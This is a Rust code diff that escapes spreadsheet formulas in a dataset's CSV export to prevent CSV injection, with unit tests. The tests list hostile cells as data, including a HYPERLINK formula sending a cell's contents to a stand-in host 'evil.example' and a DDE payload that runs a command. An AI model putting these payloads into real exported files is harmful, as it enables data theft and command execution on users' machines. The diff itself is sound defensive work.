@@ -325,14 +325,23 @@ impl Table {
         }
     }
 
-    /// The table as a CSV file: UTF-8, a header row, `\n` line ends, quoted where needed.
+    /// The table as a CSV file: UTF-8, a header row, `\n` line ends, quoted
+    /// where needed, and every text cell that a spreadsheet would run as a
+    /// formula written as text ([`spreadsheet_text`]). Numbers, dates and
+    /// booleans are written as they are: no such value starts that way but
+    /// a negative number, which a spreadsheet reads as the number it is.
     pub fn csv(self, ctx: &Ctx) -> Vec<u8> {
         let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
-        let header: Vec<&str> = self.columns().iter().map(|c| c.name).collect();
+        let columns = self.columns();
+        let header: Vec<&str> = columns.iter().map(|c| c.name).collect();
         // Writing into a Vec cannot fail.
         let _ = w.write_record(&header);
         for row in self.rows(ctx) {
-            let _ = w.write_record(&row);
+            let cells = row.iter().zip(&columns).map(|(cell, c)| match c.ty.frictionless().0 {
+                "string" => spreadsheet_text(cell),
+                _ => std::borrow::Cow::Borrowed(cell.as_str()),
+            });
+            let _ = w.write_record(cells.map(|c| c.into_owned()));
         }
         w.into_inner().unwrap_or_default()
     }
@@ -447,4 +456,48 @@ pub fn last_change(catalog: &Catalog) -> Option<PartialDate> {
     let testimonies = catalog.testimonies().iter().filter_map(|t| t.updated_on);
     let news = catalog.news().iter().filter_map(|n| n.updated_on);
     sites.chain(sources).chain(findings).chain(testimonies).chain(news).max()
+}
+
+/// The characters with which a cell starts a formula in a spreadsheet
+/// (Excel, LibreOffice, Google Sheets), the full-width forms that some of
+/// them read the same way, and the whitespace they skip before looking.
+const FORMULA_START: &[char] = &['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+const SKIPPED: &[char] = &[' ', '\t', '\r', '\n'];
+
+/// A text cell as a spreadsheet must show it: one that would start a formula
+/// (`=HYPERLINK(…)`, `-2+3+cmd|…`, `@SUM(…)`, also after leading tabs, line
+/// breaks or spaces) gets a leading `'`, which spreadsheets read as "this is
+/// text" (OWASP's advice on CSV injection). Every other cell is unchanged.
+/// The one place every CSV file of the dataset is written through; the JSON
+/// API and the GeoJSON keep the exact values.
+pub fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    let starts_formula = cell.starts_with(['\t', '\r', '\n'])
+        || cell.trim_start_matches(SKIPPED).starts_with(FORMULA_START);
+    if starts_formula { std::borrow::Cow::Owned(format!("'{cell}")) } else { std::borrow::Cow::Borrowed(cell) }
+}
+
+#[cfg(test)]
+mod spreadsheet_tests {
+    use super::spreadsheet_text;
+
+    #[test]
+    fn cells_that_would_run_are_written_as_text() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-2+3+cmd|' /C calc'!A0",
+            "@evil(1)",
+            "\t=1+1",
+            "\r=1+1",
+            "\n@x",
+            "  =1",
+            "\u{FF1D}1+1",
+            "\tplain",
+        ] {
+            assert_eq!(spreadsheet_text(cell), format!("'{cell}"), "{cell:?}");
+        }
+        for cell in ["Olenivka", "", "a=b", "1-2", "'quoted", "https://example.org/?a=-1", "Taganrog — SIZO-2"] {
+            assert_eq!(spreadsheet_text(cell), cell, "{cell:?}");
+        }
+    }
 }
